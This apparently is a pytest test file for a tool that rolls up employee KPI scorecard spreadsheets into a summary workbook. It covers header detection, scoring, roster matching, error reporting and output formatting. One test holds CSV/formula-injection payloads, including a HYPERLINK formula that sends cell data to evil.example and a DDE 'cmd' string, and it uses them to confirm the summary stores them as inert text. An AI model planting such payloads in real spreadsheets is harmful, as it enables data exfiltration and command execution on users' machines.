@@ -1,0 +1,518 @@
+"""The department rollup on hand-made sheets: finding tables, recomputing, roster, issues, the summary file."""
+
+from __future__ import annotations
+
+import datetime as dt
+import os
+from pathlib import Path
+
+import numpy as np
+import openpyxl
+import pytest
+from openpyxl import Workbook
+from rollup_helpers import GOLDEN_FINALS, GOLDEN_ROWS, GOLDEN_SCORES, digest, seed_sheet, seed_workbook
+
+from kpi_xl.errors import KpiFileError
+from kpi_xl.rollup import SHEETS, rollup
+from kpi_xl.rollup.handmade import find_header
+from kpi_xl.rollup.labels import COLUMN_LABELS, match
+from kpi_xl.roster import Employee, Roster
+from kpi_xl.scoring import round_kpi, score_scorecard
+
+WHO_ID = {"Nama": "Budi Santoso", "NIK": "E003", "Jabatan": "Digital Marketing Specialist", "Periode": "2025"}
+
+
+def issues_of(result, severity=None):
+    return [(i.file and Path(i.file).name, i.sheet, i.cell, i.severity, i.message) for i in result.issues
+            if severity is None or i.severity == severity]
+
+
+# --- the golden scorecard in the seed's layout ----------------------------------------------------------
+
+
+def test_golden_seed_layout_in_indonesian_rolls_up_to_113_65_level_4(tmp_path):
+    seed_workbook(tmp_path / "budi.xlsx", title="Contoh KPI Excel", who=WHO_ID)
+    result = rollup(tmp_path, tmp_path / "summary.xlsx", lang="id")
+    assert result.scorecards == 1
+    row = result.summary.iloc[0]
+    assert round(row.kpi_value, 2) == 113.65
+    assert row.level == 4
+    assert row.label == "Melebihi Target"
+    assert row.bonus_multiple == 1.5
+    assert row["raise"] == "7%–9%"
+    assert row.status == "complete"
+    assert (row.employee_id, row["name"], row.role, row.period) == ("E003", "Budi Santoso",
+                                                                 "Digital Marketing Specialist", "2025")
+    details = result.tables.details
+    assert details["score"].round(6).tolist() == GOLDEN_SCORES
+    assert details["final"].round(6).tolist() == GOLDEN_FINALS
+    # The merged objective covers its rows: every KPI row has its KRA.
+    assert details["kra"].tolist() == [
+        "Mengelola blog perusahaan", "Mengelola blog perusahaan",
+        "Mengelola kampanye media sosial", "Mengelola kampanye media sosial",
+        "Meningkatkan marketing qualified lead (MQL)", "Meningkatkan marketing qualified lead (MQL)",
+        "Mengefisienkan biaya iklan"]
+    # Title (row 1), blank row, four header fields, blank row: the header is row 8; actuals in column E.
+    assert details["cell"].tolist() == [f"E{r}" for r in range(9, 16)]
+    assert issues_of(result) == []
+    by_kra = result.tables.by_kra
+    assert by_kra["kra_score"].round(4).tolist() == [round((18.75 + 15) / 25 * 100, 4), 124.0, 96.5, 110.0]
+
+
+def test_rollup_agrees_with_the_core_for_every_direction(tmp_path):
+    """Stacking all rows and grouping must give exactly what `score_scorecard` gives per scorecard."""
+    rows = [("Delivery", "on-time releases", 30, 10, 8, "lower", None, None),
+            ("Delivery", "uptime", 30, 99.5, 98.9, "within", 0.3, None),
+            ("Projects", "migration done", 20, 1, dt.date(2025, 5, 1), "milestone", None, dt.date(2025, 6, 30)),
+            ("Projects", "handbook done", 20, 1, "belum", "milestone", None, dt.date(2025, 3, 31))]
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["KRA", "Indicator", "Direction", "Weight", "Target", "Tolerance", "Due date", "Actual"])
+    for kra, ind, w, t, a, d, tol, due in rows:
+        ws.append([kra, ind, d, w, t, tol, due, a])
+    wb.save(tmp_path / "mixed.xlsx")
+    result = rollup(tmp_path / "mixed.xlsx", None)
+    core = score_scorecard([r[2] for r in rows], [r[4] for r in rows], [r[3] for r in rows],
+                           [r[5] for r in rows], [r[6] for r in rows], [r[7] for r in rows])
+    assert result.summary["kpi_value"].iloc[0] == round_kpi(core.kpi_value)
+    assert np.allclose(result.tables.details["score"], core.scores, equal_nan=True)
+    assert result.summary["level"].iloc[0] == core.band.level
+    assert result.tables.details["score"].round(6).tolist() == [120.0, round(100 - 100 * 0.3 / 99.5, 6), 100.0, 0.0]
+
+
+# --- finding the table ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("label, field", [
+    ("Objective", "kra"), ("Sasaran", "kra"), ("KRA", "kra"), ("Indikator (KPI)", "indicator"),
+    ("Indicator", "indicator"), ("Bobot", "weight"), ("Bobot (%)", "weight"), ("Weight", "weight"),
+    ("  TARGET ", "target"), ("Aktual", "actual"), ("Actual:", "actual"), ("Realisasi", "actual"),
+    ("Skor", "score"), ("Score", "score"), ("Skor Akhir", "final"), ("Final score", "final"),
+    ("Satuan", "unit"), ("Arah", "direction"), ("Target value", "target"), ("Remarks", None),
+    ("Nilai KPI", None), ("", None),
+])
+def test_column_labels_in_english_and_indonesian(label, field):
+    assert match(label, COLUMN_LABELS) == field
+
+
+def test_header_found_below_titles_and_right_of_a_margin(tmp_path):
+    wb = Workbook()
+    ws = wb.active
+    ws["B2"] = "PT Contoh Sejahtera"
+    ws["B3"] = "Penilaian Kinerja 2025"
+    seed_sheet(ws, top=12, left=3, who={"Name:": "Budi", "Employee ID": 1001})
+    ws["K13"] = "Catatan"  # an extra column beside the table
+    ws["K14"] = "good quarter"
+    wb.save(tmp_path / "shifted.xlsx")
+    result = rollup(tmp_path, None)
+    card = result.summary.iloc[0]
+    assert (card.employee_id, card["name"]) == ("1001", "Budi")
+    assert round(card.kpi_value, 2) == 113.65
+    assert result.tables.details["cell"].iloc[0] == "G16"  # actual column: C + 4; header row 15
+
+
+def test_label_value_in_one_cell_and_english_headers(tmp_path):
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["KPI Scorecard"])
+    ws.append(["Employee: Sari Lestari"])
+    ws.append(["Employee ID: E010", None, "Department: Sales"])
+    ws.append([])
+    ws.append(["KRA", "Indicator", "Weight", "Target", "Actual", "Score", "Final score"])
+    ws.append(["Revenue", "sales (IDR bn)", 60, 10, 12])
+    ws.append([])  # blank rows between KPI groups are no rows
+    ws.append(["Customers", "new accounts", 40, 20, 15])
+    ws.append(["Total", None, 100])
+    ws.append([])
+    ws.append(["Nilai", "Kriteria", "Nilai KPI"])  # the band table below the TOTAL row is not read
+    ws.append([5, "Istimewa", "> 130 %"])
+    wb.save(tmp_path / "english.xlsx")
+    result = rollup(tmp_path, None)
+    card = result.summary.iloc[0]
+    assert (card.employee_id, card["name"], card.department) == ("E010", "Sari Lestari", "Sales")
+    assert card.kpi_value == pytest.approx(60 * 120 / 100 + 40 * 75 / 100)
+    assert len(result.tables.details) == 2
+    assert issues_of(result) == []
+
+
+def test_find_header_needs_weight_target_and_actual():
+    assert find_header([["Objective", "Indikator (KPI)", "Bobot", "Target"]]) is None
+    assert find_header([[], ["x", "Bobot", "Target", "Aktual"]]) == (1, {"weight": 1, "target": 2, "actual": 3})
+
+
+# --- workbooks, files and counts ---------------------------------------------------------------------------
+
+
+def test_multi_sheet_workbook_lock_files_and_counts_reconcile(tmp_path):
+    folder = tmp_path / "in"
+    (folder / "sub").mkdir(parents=True)
+    seed_workbook(folder / "team.xlsx", sheets={
+        "Budi": {"who": {"NIK": "E1", "Nama": "Budi"}},
+        "Sari": {"who": {"NIK": "E2", "Nama": "Sari"}, "actuals": [40, 1_000_000, 25, 5, 25, 20, 30]},
+    })
+    wb = openpyxl.load_workbook(folder / "team.xlsx")
+    wb.create_sheet("Notes")["A1"] = "remember the Q3 campaign"
+    wb.save(folder / "team.xlsx")
+    seed_workbook(folder / "sub" / "dewi.xlsx", who={"NIK": "E3", "Nama": "Dewi"})
+    (folder / "~$team.xlsx").write_bytes(b"\x00lock")
+    (folder / "readme.txt").write_text("scorecards for Q4")
+    (folder / "empty.xlsx").write_bytes(b"")
+    (folder / "photo.xlsx").write_bytes(b"\x89PNG\r\n\x1a\n" + b"0" * 100)
+
+    result = rollup(folder, tmp_path / "summary.xlsx")
+    assert result.scorecards == 3
+    assert sorted(result.summary["employee_id"]) == ["E1", "E2", "E3"]
+    assert result.summary.set_index("employee_id")["kpi_value"].round(2).to_dict() == {
+        "E1": 113.65, "E2": 100.0, "E3": 113.65}
+    assert (result.files_found, result.files_with_scorecards, result.files_unreadable, result.lock_files,
+            result.other_files) == (6, 2, 2, 1, 1)
+    assert result.reconciles
+    messages = {(name, sheet, severity): message for name, sheet, _, severity, message in issues_of(result)}
+    assert messages[("~$team.xlsx", "", "info")] == "skipped: Excel's lock file (the workbook is open somewhere)"
+    assert messages[("readme.txt", "", "info")] == "skipped: not a workbook (.xlsx, .xlsm, .xls, .ods)"
+    # Files that cannot be opened are refused before anything unpacks them (kpi_xl.safety.preflight).
+    assert messages[("empty.xlsx", "", "error")].startswith("'empty.xlsx' is empty (0 bytes)")
+    assert messages[("photo.xlsx", "", "error")].startswith("'photo.xlsx' is a PNG image, not a workbook")
+    assert messages[("team.xlsx", "Notes", "info")].startswith("no KPI table on this sheet")
+
+
+def test_the_summary_in_the_input_folder_is_not_read_back(tmp_path):
+    seed_workbook(tmp_path / "budi.xlsx")
+    first = rollup(tmp_path, tmp_path / "summary.xlsx")
+    second = rollup(tmp_path, tmp_path / "summary.xlsx")
+    assert first.scorecards == second.scorecards == 1
+    assert ("summary.xlsx", "", "", "info", "skipped: this is the summary being written") in issues_of(second)
+
+
+def test_no_workbook_at_all_is_an_error(tmp_path):
+    (tmp_path / "notes.txt").write_text("x")
+    with pytest.raises(KpiFileError, match="no scorecard workbooks"):
+        rollup(tmp_path, tmp_path / "summary.xlsx")
+    assert not (tmp_path / "summary.xlsx").exists()
+
+
+def test_summary_must_be_xlsx_in_an_existing_folder(tmp_path):
+    seed_workbook(tmp_path / "a.xlsx")
+    with pytest.raises(KpiFileError, match=r"summary\.csv: the summary must be an \.xlsx file"):
+        rollup(tmp_path, tmp_path / "summary.csv")
+    with pytest.raises(KpiFileError, match="the summary's folder does not exist"):
+        rollup(tmp_path, tmp_path / "nope" / "summary.xlsx")
+
+
+def test_inputs_are_never_modified(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    seed_workbook(folder / "a.xlsx", who={"NIK": "E1"})
+    seed_workbook(folder / "b.xlsx", who={"NIK": "E1"}, cached=[(1, 2)] * 7)
+    (folder / "broken.xlsx").write_bytes(b"PK\x03\x04 truncated")
+    before = digest(folder)
+    rollup(folder, tmp_path / "summary.xlsx", jobs=1)
+    assert digest(folder) == before
+
+
+# --- recomputing and issues --------------------------------------------------------------------------------
+
+
+def test_a_cached_result_typed_over_a_formula_is_an_issue_naming_the_cell(tmp_path):
+    cached = [(s, f) for s, f in zip(GOLDEN_SCORES, GOLDEN_FINALS)]
+    cached[4] = (95, 19)  # lead generation: 88 and 17.6 by the formula, typed over as 95 and 19
+    seed_workbook(tmp_path / "budi.xlsx", who={"NIK": "E3"}, cached=cached)
+    result = rollup(tmp_path, None)
+    assert round(result.summary["kpi_value"].iloc[0], 2) == 113.65  # recomputed, the typed values ignored
+    assert issues_of(result, "warning") == [
+        ("budi.xlsx", "KPI", "F8", "warning", "the score in the file is 95 but computes to 88.00: formula "
+                                              "overwritten by hand? The summary uses the computed value"),
+        ("budi.xlsx", "KPI", "G8", "warning", "the final in the file is 19 but computes to 17.60: formula "
+                                              "overwritten by hand? The summary uses the computed value"),
+    ]
+
+
+def test_percent_formatted_cached_scores_agree(tmp_path):
+    cached = [(s / 100, f) for s, f in zip(GOLDEN_SCORES, GOLDEN_FINALS)]  # 125 % stored as 1.25
+    seed_workbook(tmp_path / "budi.xlsx", cached=cached)
+    assert issues_of(rollup(tmp_path, None), "warning") == []
+
+
+@pytest.mark.parametrize("row, value, cell, message", [
+    (0, "abc", "E3", "actual 'abc' is not a number; type a number in E3"),
+    (1, "1,5 juta", "E4", "actual '1,5 juta' is not a number; type a number in E4"),
+])
+def test_text_in_a_number_cell_is_an_error_naming_the_cell(tmp_path, row, value, cell, message):
+    actuals = [r[4] for r in GOLDEN_ROWS]
+    actuals[row] = value
+    seed_workbook(tmp_path / "a.xlsx", top=2, actuals=actuals)
+    result = rollup(tmp_path, None)
+    assert result.summary["status"].iloc[0] == "error"
+    assert ("a.xlsx", "KPI", cell, "error", message) in issues_of(result)
+    assert result.tables.details["row_status"].iloc[row] == "error"
+
+
+def test_target_zero_blank_weight_and_weights_not_100(tmp_path):
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "Sari"
+    ws.append(["Objective", "Indikator", "Bobot", "Target", "Aktual"])
+    ws.append(["A", "one", 50, 0, 5])
+    ws.append(["A", "two", 40, 10, 10])
+    wb.save(tmp_path / "zero.xlsx")
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "Joko"
+    ws.append(["Objective", "Indikator", "Bobot", "Target", "Aktual"])
+    ws.append(["A", "one", None, 10, 5])
+    ws.append(["A", "two", 100, 10, 10])
+    wb.save(tmp_path / "blank_weight.xlsx")
+    result = rollup(tmp_path, None)
+    found = issues_of(result)
+    assert ("zero.xlsx", "Sari", "D2", "error", "target is 0; this KPI row counts as 0 until it is fixed") in found
+    assert ("zero.xlsx", "Sari", "", "warning",
+            "the weights sum to 90, not 100; the KPI value divides by 90") in found
+    assert ("blank_weight.xlsx", "Joko", "C2", "error", "weight is blank; type the KPI's weight in C2") in found
+    s = result.summary.set_index("sheet")
+    assert s.loc["Sari", "status"] == "error"
+    assert s.loc["Sari", "kpi_value"] == pytest.approx(40 / 90 * 100)  # the refused row counts as 0, as in the core
+    assert s.loc["Joko", "status"] == "error"
+    assert np.isnan(s.loc["Joko", "kpi_value"]) and s.loc["Joko", "level"] == 0
+
+
+def test_incomplete_scorecard(tmp_path):
+    actuals = [r[4] for r in GOLDEN_ROWS]
+    actuals[5] = actuals[6] = None
+    seed_workbook(tmp_path / "a.xlsx", actuals=actuals)
+    result = rollup(tmp_path, None)
+    row = result.summary.iloc[0]
+    assert row.status == "incomplete"
+    assert round(row.kpi_value, 2) == round(113.65 - 21 - 16.5, 2)  # blank actuals count as 0
+    assert issues_of(result) == [("a.xlsx", "KPI", "E7", "info", "2 of 7 actuals not yet reported (E7, E8); "
+                                                               "they count as 0 and the scorecard is incomplete")]
+    assert result.tables.details["row_status"].tolist()[-2:] == ["blank", "blank"]
+
+
+# --- roster, duplicates, 9-box ------------------------------------------------------------------------------
+
+
+def _employee(emp_id, name, dept, salary=None, potential=None, supervisor="Andi", role="digital-marketing-specialist"):
+    return Employee(emp_id, name, dept, supervisor, role, "2025", salary, potential, 2)
+
+
+def test_roster_matching_missing_and_bonus_amount(tmp_path):
+    seed_workbook(tmp_path / "budi.xlsx", who={"NIK": "E3", "Nama": "Budi Santoso"})
+    seed_workbook(tmp_path / "x.xlsx", who={"NIK": "X9", "Nama": "Stranger"})
+    seed_workbook(tmp_path / "rina.xlsx", who={"NIK": "e1 ", "Nama": "Rina D."},
+                  actuals=[40, 1_000_000, 25, 5, 25, 20, 30])
+    roster = Roster([_employee("E1", "Rina Dewi", "Marketing", 10_000_000, "high"),
+                     _employee("E3", "Budi Santoso", "Marketing", 9_000_000, "medium", supervisor="Sari"),
+                     _employee("E8", "Siti Rahma", "HR", 16_000_000, "low")], [], "roster.xlsx")
+    result = rollup(tmp_path, tmp_path / "summary.xlsx", roster=roster)
+    s = result.summary.set_index("employee_id")
+    assert s.loc["E3", "department"] == "Marketing" and s.loc["E3", "supervisor"] == "Sari"
+    assert s.loc["E3", "bonus_amount"] == 1.5 * 9_000_000
+    assert s.loc["e1", "bonus_amount"] == 1 * 10_000_000  # IDs match without case and spaces
+    assert np.isnan(s.loc["X9", "bonus_amount"])
+    assert result.tables.missing["employee_id"].tolist() == ["E8"]
+    found = issues_of(result, "warning")
+    assert ("x.xlsx", "KPI", "", "warning", "employee ID X9 is not on the roster (roster.xlsx)") in found
+    assert ("rina.xlsx", "KPI", "", "warning", "employee ID e1 is 'Rina Dewi' on the roster but 'Rina D.' on the "
+                                               "scorecard; check the ID") in found
+    boxes = result.tables.nine_box
+    assert boxes[("medium", "high")] == ["Budi Santoso (E3)"]  # level 4 is high performance
+    assert boxes[("high", "medium")] == ["Rina D. (e1)"]  # level 3 is medium
+    assert sum(len(v) for v in boxes.values()) == 2  # X9 has no potential; E8 has no scorecard
+
+    wb = openpyxl.load_workbook(tmp_path / "summary.xlsx")
+    assert wb.sheetnames == list(SHEETS)
+    grid = [[c for c in row] for row in wb["9-Box"].iter_rows(min_row=3, values_only=True)]
+    assert grid[0] == ["Potential \\ Performance (level)", "Low (level 1-2)", "Medium (level 3)", "High (level 4-5)"]
+    assert [row[0] for row in grid[1:]] == ["High", "Medium", "Low"]
+    assert grid[1][2] == "(1)\nRina D. (e1)"
+    assert grid[2][3] == "(1)\nBudi Santoso (E3)"
+    missing = list(wb["Missing"].iter_rows(values_only=True))
+    assert missing == [("Employee ID", "Name", "Department", "Supervisor", "Role", "Period"),
+                       ("E8", "Siti Rahma", "HR", "Andi", "digital-marketing-specialist", "2025")]
+    header = [c.value for c in wb["Summary"][1]]
+    assert "Bonus amount" in header
+    assert wb["Summary"].cell(2 + list(s.index).index("E3"), header.index("Bonus amount") + 1).value == 13_500_000
+
+
+def test_roster_file_is_read_and_its_refused_rows_reported(tmp_path):
+    seed_workbook(tmp_path / "budi.xlsx", who={"NIK": "1001"})
+    roster = tmp_path / "roster.csv"
+    roster.write_text("NIK,Nama,Jabatan,Departemen,Gaji bulanan,Potensi\n"
+                      "1001,Budi,digital-marketing-specialist,Pemasaran,10.000.000,tinggi\n"
+                      "1002,Sari,hr-manager,HR,lots,\n", encoding="utf-8")
+    result = rollup(tmp_path / "budi.xlsx", None, roster=roster)
+    assert result.summary["bonus_amount"].iloc[0] == 15_000_000
+    assert result.summary["department"].iloc[0] == "Pemasaran"
+    assert issues_of(result, "warning") == [
+        ("roster.csv", "", "row 3", "warning", "roster row refused: monthly salary 'lots' is not a number")]
+
+
+def test_duplicate_employee_ids_are_an_error_on_both(tmp_path):
+    seed_workbook(tmp_path / "a.xlsx", who={"NIK": "E1", "Periode": "2025"})
+    seed_workbook(tmp_path / "b.xlsx", sheets={"Q": {"who": {"NIK": "E1", "Periode": "2025"}},
+                                               "Other year": {"who": {"NIK": "E1", "Periode": "2024"}}})
+    result = rollup(tmp_path, None)
+    errors = issues_of(result, "error")
+    message = f"employee ID E1 (period 2025) is on 2 scorecards: {tmp_path / 'a.xlsx'} [KPI]; " \
+              f"{tmp_path / 'b.xlsx'} [Q]; keep one"
+    assert errors == [("a.xlsx", "KPI", "", "error", message), ("b.xlsx", "Q", "", "error", message)]
+    assert result.summary["status"].tolist() == ["error", "error", "complete"]
+
+
+# --- the summary workbook ----------------------------------------------------------------------------------
+
+
+def test_summary_workbook_sheets_formats_chart_and_labels(tmp_path):
+    seed_workbook(tmp_path / "budi.xlsx", who={"NIK": "E3", "Nama": "Budi"})
+    out = tmp_path / "ringkasan.xlsx"
+    result = rollup(tmp_path / "budi.xlsx", out, lang="id")
+    assert result.output == out
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames == ["Summary", "By KRA", "Levels", "Details", "Issues", "Missing"]  # no potentials
+    summary = wb["Summary"]
+    header = [c.value for c in summary[1]]
+    assert header[:9] == ["ID Karyawan", "Nama", "Departemen", "Jabatan", "Atasan", "Periode", "Nilai KPI (%)",
+                          "Level", "Kriteria"]
+    assert "Jumlah bonus" not in header  # no salary, no amount column
+    values = dict(zip(header, [c.value for c in summary[2]]))
+    assert values["Nilai KPI (%)"] == pytest.approx(113.65)
+    assert values["Kriteria"] == "Melebihi Target" and values["Status"] == "lengkap"
+    assert summary.cell(2, header.index("Nilai KPI (%)") + 1).number_format == "0.00"
+    for name in ("Summary", "By KRA", "Levels", "Details"):
+        ws = wb[name]
+        assert ws.freeze_panes == "A2", name
+        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row if name != 'Levels' else 6}", name
+        assert ws.cell(1, 1).font.b, name
+    assert summary.column_dimensions["B"].width == 24
+    levels = wb["Levels"]
+    assert [c.value for c in levels[1]] == ["Level", "Kriteria", "-", "Total"]
+    assert [[c.value for c in row] for row in levels.iter_rows(min_row=2, max_row=6)] == [
+        [1, "Jauh Di Bawah Target", 0, 0], [2, "Belum Mencapai Target", 0, 0], [3, "Mencapai Target", 0, 0],
+        [4, "Melebihi Target", 1, 1], [5, "Istimewa", 0, 0]]
+    chart = levels._charts[0]
+    assert chart.tagname == "barChart" and chart.grouping == "stacked"
+    assert len(wb["Details"]["A"]) == 8 and wb["Details"]["E2"].value == "Mengelola blog perusahaan"
+    assert wb["Missing"]["A1"].value.startswith("Tidak ada roster")
+
+
+def test_text_from_inputs_is_written_as_text_never_a_formula(tmp_path):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [(evil, "+cmd|' /C calc'!A0", 50, 10, 10), (None, "@SUM(1+1)", 50, 10, 10)]
+    seed_workbook(tmp_path / "evil.xlsx", rows=rows, who={"Nama": evil, "NIK": "-1+1"})
+    wb = openpyxl.load_workbook(tmp_path / "evil.xlsx")  # openpyxl wrote the name as a formula: make it text
+    for row in wb.active.iter_rows():
+        for cell in row:
+            if cell.value == evil:
+                cell.data_type = "s"
+    wb.save(tmp_path / "evil.xlsx")
+    out = tmp_path / "summary.xlsx"
+    rollup(tmp_path / "evil.xlsx", out, roster=Roster([_employee("-1+1", evil, "=1+1", potential="high")], []))
+    wb = openpyxl.load_workbook(out)
+    name_cell = wb["Summary"]["B2"]
+    assert name_cell.value == evil and name_cell.data_type == "s"
+    assert wb["Summary"]["C2"].value == "=1+1" and wb["Summary"]["C2"].data_type == "s"
+    assert wb["Details"]["E2"].value == evil and wb["Details"]["E2"].data_type == "s"
+    assert wb["Levels"]["C1"].value == "=1+1" and wb["Levels"]["C1"].data_type == "s"
+    assert wb["9-Box"]["C4"].value == f"(1)\n{evil} (-1+1)"  # level 3, high potential
+    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+
+def test_a_failed_write_keeps_the_previous_summary_and_leaves_no_partial_file(tmp_path, monkeypatch):
+    seed_workbook(tmp_path / "a.xlsx")
+    out = tmp_path / "summary.xlsx"
+    rollup(tmp_path / "a.xlsx", out)
+    before = out.read_bytes()
+
+    def disk_full(f, table):
+        f.write(b"<worksheet>half a summary")
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("kpi_xl.rollup.summary._write_table_xml", disk_full)
+    with pytest.raises(KpiFileError, match="cannot write the summary .No space left on device."):
+        rollup(tmp_path / "a.xlsx", out)
+    assert out.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx", "summary.xlsx"]
+
+
+def test_jobs_give_the_same_summary(tmp_path):
+    for i in range(12):
+        actuals = [r[4] * (1 + i / 20) for r in GOLDEN_ROWS]
+        seed_workbook(tmp_path / f"e{i:02}.xlsx", who={"NIK": f"E{i:02}"}, actuals=actuals)
+    one = rollup(tmp_path, None, jobs=1)
+    two = rollup(tmp_path, None, jobs=2)
+    assert one.summary.equals(two.summary)
+    assert [str(i) for i in one.issues] == [str(i) for i in two.issues]
+    seen = []
+    rollup(tmp_path, None, progress=lambda done, total: seen.append((done, total)))
+    assert seen[-1] == (12, 12) and len(seen) == 12
+
+
+def test_policy_is_used(tmp_path):
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(
+        "max_score: 120\nbands:\n"
+        "  - {level: 1, above: null, label: {id: Kurang, en: Poor}, bonus: 0, raise: '0%'}\n"
+        "  - {level: 2, above: 100, label: {id: Baik, en: Good}, bonus: 1, raise: '5%'}\n", encoding="utf-8")
+    seed_workbook(tmp_path / "a.xlsx")
+    result = rollup(tmp_path / "a.xlsx", None, policy=policy)
+    capped = sum(w * min(s, 120) / 100 for (_, _, w, _, _), s in zip(GOLDEN_ROWS, GOLDEN_SCORES))
+    assert result.summary["kpi_value"].iloc[0] == pytest.approx(capped)
+    assert result.summary["label"].iloc[0] == "Good"
+
+
+# --- the command ----------------------------------------------------------------------------------------------
+
+
+def _cli(*args):
+    from typer.testing import CliRunner
+
+    from kpi_xl.cli import app
+
+    return CliRunner().invoke(app, list(map(str, args)), env={"COLUMNS": "200"})
+
+
+def test_cli_exit_0_with_a_summary_even_when_no_file_could_be_read(tmp_path):
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "broken.xlsx").write_bytes(b"PK\x03\x04 not really")
+    result = _cli("rollup", tmp_path / "in", "-o", tmp_path / "summary.xlsx")
+    assert result.exit_code == 0, result.output
+    assert "Files found: 1 (0 with scorecards, 1 could not be read)" in result.output
+    assert "Scorecards read: 0 (0 complete, 0 incomplete, 0 with errors)" in result.output
+    assert "Issues: 1 errors, 0 warnings, 0 info (see the Issues sheet)" in result.output
+    issues = list(openpyxl.load_workbook(tmp_path / "summary.xlsx")["Issues"].iter_rows(values_only=True))
+    assert issues[1][0] == str(tmp_path / "in" / "broken.xlsx") and issues[1][3] == "error"
+
+
+@pytest.mark.parametrize("args, code, message", [
+    (["rollup", "{tmp}/nothing", "-o", "{tmp}/s.xlsx"], 1, "no scorecard workbooks (.xlsx, .xlsm, .xls, .ods) found"),
+    (["rollup", "{tmp}/in", "-o", "{tmp}/s.xlsx", "--lang", "fr"], 2, "'fr' is not en or id"),
+    (["rollup", "{tmp}/in"], 2, "Missing option '-o'"),
+    (["rollup", "{tmp}/in", "-o", "{tmp}/no/s.xlsx"], 1, "the summary's folder does not exist"),
+    (["rollup", "{tmp}/in", "-o", "{tmp}/s.xlsx", "--roster", "{tmp}/none.csv"], 1, "roster file not found"),
+])
+def test_cli_refusals(tmp_path, args, code, message):
+    (tmp_path / "nothing").mkdir()
+    (tmp_path / "in").mkdir()
+    seed_workbook(tmp_path / "in" / "a.xlsx")
+    result = _cli(*[a.format(tmp=tmp_path) for a in args])
+    assert result.exit_code == code, result.output
+    assert message in result.output
+    assert "Traceback" not in result.output
+    assert not (tmp_path / "s.xlsx").exists()
+
+
+def test_a_temporary_file_left_by_an_interrupted_run_is_skipped(tmp_path):
+    seed_workbook(tmp_path / "a.xlsx")
+    (tmp_path / ".kpi-xl-0123456789ab.xlsx").write_bytes(b"PK\x03\x04 half a summary")
+    result = rollup(tmp_path, tmp_path / "summary.xlsx")
+    assert result.scorecards == 1 and result.files_unreadable == 0 and result.other_files == 1
+    assert (".kpi-xl-0123456789ab.xlsx", "", "", "info",
+            "skipped: a temporary file an interrupted kpi-xl run left behind; delete it") in issues_of(result)
+    assert (tmp_path / "summary.xlsx").stat().st_mode & 0o777 == 0o666 & ~_umask()
+
+
+def _umask() -> int:
+    mask = os.umask(0)
+    os.umask(mask)
+    return mask
